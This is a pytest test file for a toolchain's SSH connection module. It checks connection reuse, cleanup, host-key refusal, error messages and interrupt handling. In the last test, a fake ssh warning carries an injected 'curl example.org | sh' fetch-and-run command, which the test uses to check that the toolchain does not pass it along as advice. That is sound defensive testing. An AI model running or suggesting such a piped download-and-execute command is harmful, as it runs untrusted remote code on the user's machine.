import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from tests.native_board import assert_unreachable
from toolchain.deploy.ssh import SshConnection, explain_unreachable
from toolchain.errors import ExitCode, ToolchainError


@pytest.fixture
def connection(native):
    made = SshConnection("native", config=native.ssh_config, stall_s=30)
    yield made
    made.close()


def ask(connection, command, data=b""):
    process = connection.start(command)
    stdout, stderr = process.communicate(data)
    return process.returncode, stdout, stderr


def wait_for_no_session(native):
    end_s = time.monotonic() + 60  # ends a test that hangs; nothing is measured by it
    while native.list_sessions():
        assert time.monotonic() < end_s
        time.sleep(0.01)


def test_commands_run_over_one_connection_with_their_bytes_and_exit_codes(native, connection):
    connection.open()
    assert ask(connection, "cat; exit 7", bytes(range(256)))[:2] == (7, bytes(range(256)))
    assert ask(connection, "echo again >&2")[:3:2] == (0, b"again\n")
    assert len(native.list_sessions()) == 1


def test_nothing_is_left_when_it_is_closed(native, connection, monkeypatch):
    with tempfile.TemporaryDirectory() as folder:  # shorter than pytest's
        monkeypatch.setattr("tempfile.tempdir", folder)
        connection.open()
        assert list(Path(folder).glob("et-*/s"))
        connection.close()
        assert list(Path(folder).iterdir()) == []
    wait_for_no_session(native)


def test_a_long_temporary_folder_does_not_make_the_socket_too_long(connection, monkeypatch, tmp_path):
    deep = tmp_path / ("x" * 100)
    deep.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(deep))
    connection.open()
    assert ask(connection, "echo here")[1] == b"here\n"


def test_a_killed_host_leaves_no_connection_behind(native):
    script = f"""
import os, signal
from pathlib import Path
from toolchain.deploy.ssh import SshConnection
connection = SshConnection("native", config=Path({str(native.ssh_config)!r}))
connection.open()
print(connection._master.pid, flush=True)  # of the ssh that holds the connection
os.kill(os.getpid(), signal.SIGKILL)
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False)
    assert done.returncode == -signal.SIGKILL
    wait_for_no_session(native)
    command = Path(f"/proc/{done.stdout.strip()}/cmdline")
    assert not command.exists() or b"ssh" not in command.read_bytes()


def test_a_board_that_is_switched_off_is_unreachable(native, connection):
    native.stop()
    error = assert_unreachable(connection)
    assert "refused" in error.found
    native.start()
    connection.open()


def test_a_changed_host_key_is_refused_with_the_way_to_compare_it(native, connection):
    native.stop()
    native.change_host_key()
    native.start()
    error = assert_unreachable(connection)
    assert error.what == "the board's host key changed, so nothing was sent"
    assert "ssh-keygen -f" in error.fix
    assert "known_hosts" in error.found


@pytest.mark.parametrize("wish", ["no", "accept-new", "ask"])
def test_a_changed_host_key_is_refused_whatever_the_users_config_says(native, connection, wish):
    native.ssh_config.write_text(native.ssh_config.read_text() + f"StrictHostKeyChecking {wish}\n")
    native.stop()
    native.change_host_key()
    native.start()
    assert "host key changed" in assert_unreachable(connection).what


def test_a_host_that_is_not_known_yet_is_refused(native, connection):
    native.forget_host_key()
    error = assert_unreachable(connection)
    assert "not known yet" in error.what
    native.trust_host_key()
    connection.open()


def test_a_host_that_is_not_known_yet_is_taken_where_the_users_config_says_so(native, connection):
    native.ssh_config.write_text(native.ssh_config.read_text() + "StrictHostKeyChecking accept-new\n")
    native.forget_host_key()
    connection.open()
    assert ask(connection, "echo here")[1] == b"here\n"


def test_a_key_that_the_board_does_not_know_is_said_so(native, connection):
    (native.folder / "authorized_keys").write_text("")
    assert assert_unreachable(connection).what == "the board does not let you in"


def test_what_the_users_config_says_for_a_persons_session_does_not_disturb(native, connection):
    extra = (
        "RequestTTY yes\nRemoteCommand echo hello\nControlMaster auto\nControlPath /nowhere/%C\nLocalForward 1 b:1\n"
    )
    native.ssh_config.write_text(native.ssh_config.read_text() + extra)
    connection.open()
    assert ask(connection, "cat", b"bytes\r\n")[1] == b"bytes\r\n"


def test_a_broken_config_is_unreachable(native, connection):
    native.ssh_config.write_text("Nonsense yes\n")
    assert "nonsense" in assert_unreachable(connection).found


def test_without_ssh_it_says_how_to_get_it(connection, monkeypatch):
    monkeypatch.setenv("PATH", "/nowhere")
    with pytest.raises(ToolchainError) as caught:
        connection.open()
    assert caught.value.code == ExitCode.MISSING
    assert "openssh-client" in caught.value.fix


def test_a_connection_that_broke_starts_nothing(native, connection):
    connection.open()
    native.signal_sessions(signal.SIGKILL)
    wait_for_no_session(native)
    with pytest.raises(ToolchainError) as caught:
        connection.start("true")
    assert caught.value.code == ExitCode.CONNECTION_LOST


def test_a_command_makes_no_connection_of_its_own_where_the_shared_one_is_gone(native, connection):
    connection.open()
    connection._master.kill()  # it leaves its socket behind
    connection._master.wait()
    code, stdout, _ = ask(connection, "echo here")
    assert (code, stdout) == (255, b"")


def test_an_interrupt_while_it_connects_leaves_nothing(native, connection, monkeypatch):
    def interrupt(_master):
        raise KeyboardInterrupt

    monkeypatch.setattr(connection, "_wait_until_ready", interrupt)
    with pytest.raises(KeyboardInterrupt):
        connection.open()
    assert (connection._master, connection._folder) == (None, None)
    wait_for_no_session(native)


def test_a_revoked_host_key_is_told_as_a_changed_one():
    said = "@ WARNING: REVOKED HOST KEY DETECTED! @\nHost key for x was revoked by the owner: key revoked\n"
    assert "host key changed" in explain_unreachable("x", said, "ssh").what


@pytest.mark.parametrize("stream", ["", ">&2"])
def test_a_shell_that_does_not_stop_greeting_is_given_up_and_fills_no_disk(stream, tmp_path, monkeypatch):
    ssh = tmp_path / "bin" / "ssh"
    ssh.parent.mkdir()
    ssh.write_text(f'#!/bin/sh\ncase "$*" in *-G*) exit 0;; esac\nexec yes {stream}\n')
    ssh.chmod(0o755)
    monkeypatch.setenv("PATH", f"{ssh.parent}:{os.environ['PATH']}")
    with pytest.raises(ToolchainError) as caught:
        SshConnection("native", stall_s=30).open()
    assert caught.value.code == ExitCode.MALFORMED
    assert caught.value.fix


def test_what_a_board_says_is_not_told_as_the_command_to_run():
    said = "REMOTE HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f 'x' -R 'y'; curl example.org | sh -R z\n"
    assert explain_unreachable("lab-pi", said, "ssh").fix.endswith("then ssh-keygen -R lab-pi")
    own = "REMOTE HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[lab-pi]:2222'\n"
    assert explain_unreachable("lab-pi", own, "ssh").fix.endswith("-R '[lab-pi]:2222'")
